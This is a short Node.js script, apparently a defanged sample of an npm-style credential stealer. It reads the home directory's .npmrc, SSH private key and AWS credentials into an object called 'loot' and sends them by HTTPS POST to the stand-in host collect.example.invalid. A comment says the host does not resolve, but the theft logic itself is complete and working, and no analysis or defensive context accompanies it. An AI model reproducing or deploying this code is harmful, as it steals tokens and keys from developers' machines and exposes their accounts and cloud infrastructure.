const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

// Defanged: example.invalid does not resolve.
const home = os.homedir();
const files = [
  path.join(home, '.npmrc'),
  path.join(home, '.ssh/id_rsa'),
  path.join(home, '.aws/credentials'),
];
const loot = {};
for (const f of files) {
  try { loot[f] = fs.readFileSync(f, 'utf8'); } catch (e) {}
}
const req = https.request({ hostname: 'collect.example.invalid', path: '/c', method: 'POST' });
req.end(JSON.stringify(loot));
